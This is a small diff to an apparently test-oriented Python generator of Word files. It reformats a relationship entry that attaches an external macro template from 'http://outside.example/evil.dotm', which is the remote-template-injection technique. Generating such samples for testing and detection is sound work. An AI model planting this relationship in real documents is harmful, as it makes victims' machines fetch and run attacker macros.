@@ -260,7 +260,8 @@ def _word_files(size: float) -> Iterator[Bytes]:
             whole,
             "word/_rels/settings.xml.rels",
             b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+            b'<Relationship Id="rId1" '
+            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
             b'Target="http://outside.example/evil.dotm" TargetMode="External"/></Relationships>',
         ),
     )
